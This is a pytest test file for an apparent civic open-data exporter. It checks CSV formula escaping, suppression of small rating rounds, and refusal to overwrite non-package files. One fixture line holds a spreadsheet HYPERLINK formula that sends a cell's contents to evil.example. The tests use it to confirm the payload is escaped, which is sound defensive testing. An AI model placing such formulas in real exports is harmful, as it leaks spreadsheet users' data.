"""What the package must never do: replace what is not a package, hand a spreadsheet a
formula, or give away a hidden round's counts through its verdict."""

from __future__ import annotations

import csv
import os
from collections.abc import Iterator
from pathlib import Path

import pytest
from frictionless import validate

from civicflow import CivicFlow
from civicflow.cli import main
from civicflow.errors import OutputExistsError
from civicflow.opendata import export_open_data, writing
from tests import flows

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture
def flow() -> Iterator[CivicFlow]:
    with flows.open_flow() as flow:
        yield flow


def rows(folder: Path, name: str) -> list[dict[str, str]]:
    with (folder / f"{name}.csv").open(encoding="utf-8", newline="") as f:
        return list(csv.DictReader(f))


def test_free_text_that_looks_like_a_formula_is_escaped(flow: CivicFlow, tmp_path: Path) -> None:
    flows.asked(flow, title=HYPERLINK)
    flows.asked(flow, title="+1 more light", category="@lighting")
    flows.asked(flow, title="-\tdash", category="lighting")
    flows.asked(flow, title="Plain, with = inside", category="lighting")
    export_open_data(flow, tmp_path / "pkg", k=5)
    found = {(r["title"], r["category"]) for r in rows(tmp_path / "pkg", "proposals")}
    assert found == {
        ("'" + HYPERLINK, "lighting"),
        ("'+1 more light", "'@lighting"),
        ("'-\tdash", "lighting"),
        ("Plain, with = inside", "lighting"),
    }
    report = validate(str(tmp_path / "pkg" / "datapackage.json"))
    assert report.valid, report.flatten(["resourceName", "rowNumber", "type", "note"])
    assert [writing.text_cell(v) for v in ("\rx", "=1", "a=1", None)] == ["'\rx", "'=1", "a=1", ""]


def test_a_round_whose_figure_is_suppressed_has_no_verdict(flow: CivicFlow, tmp_path: Path) -> None:
    hidden = flows.rating(flow)
    flow.rate(hidden.id, resident="resident-9", level="dissatisfied")
    flows.close_round(flow, hidden)
    export_open_data(flow, tmp_path / "k5", k=5)
    (hidden_round,) = rows(tmp_path / "k5", "rounds")
    assert hidden_round["suppressed"] == "true"
    assert hidden_round["verdict"] == ""  # rectify, from one rating: not published
    assert hidden_round["closed_date"] != ""  # that the round closed is no secret
    export_open_data(flow, tmp_path / "k1", k=1)
    (shown_round,) = rows(tmp_path / "k1", "rounds")
    assert (shown_round["suppressed"], shown_round["verdict"]) == ("false", "rectify")


def listing(folder: Path) -> list[tuple[str, bytes]]:
    return sorted((p.name, p.read_bytes()) for p in folder.iterdir())


def test_overwrite_replaces_a_package_and_nothing_else(flow: CivicFlow, tmp_path: Path) -> None:
    mine = tmp_path / "mine"
    mine.mkdir()
    (mine / "thesis.docx").write_bytes(b"years of work")
    civic = tmp_path / "civic.db"
    civic.write_bytes(b"SQLite format 3\0")
    link = tmp_path / "link"
    link.symlink_to(mine)
    package = tmp_path / "pkg"
    export_open_data(flow, package)
    extra = tmp_path / "pkg-plus"
    export_open_data(flow, extra)
    (extra / "notes.txt").write_text("mine", encoding="utf-8")
    before = {p: listing(p) for p in (mine, extra)}
    for target, why in (
        (mine, "not a civicflow open data package"),
        (extra, "'notes.txt' is not one of its files"),
        (civic, "is a file"),
        (link, "is a symbolic link"),
    ):
        with pytest.raises(OutputExistsError, match=why):
            export_open_data(flow, target, overwrite=True)
    assert {p: listing(p) for p in (mine, extra)} == before
    assert civic.read_bytes() == b"SQLite format 3\0"
    assert os.readlink(link) == str(mine)
    with pytest.raises(OutputExistsError, match="is a file"):
        export_open_data(flow, civic)  # without overwrite too
    export_open_data(flow, package, overwrite=True)
    assert (package / "datapackage.json").is_file()
    assert sorted(p.name for p in tmp_path.iterdir()) == [
        "civic.db",
        "link",
        "mine",
        "pkg",
        "pkg-plus",
    ]  # nothing set aside is left


def test_the_command_refuses_to_overwrite_what_is_not_a_package(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    db = f"sqlite:///{tmp_path / 'civic.db'}"
    with flows.open_flow(db) as flow:
        flows.asked(flow)
    before = (tmp_path / "civic.db").read_bytes()
    line = ["export", "--open-data", str(tmp_path / "civic.db"), "--overwrite", "--db", db]
    assert main(line) == 2
    assert "is a file" in capsys.readouterr().err
    assert (tmp_path / "civic.db").read_bytes() == before
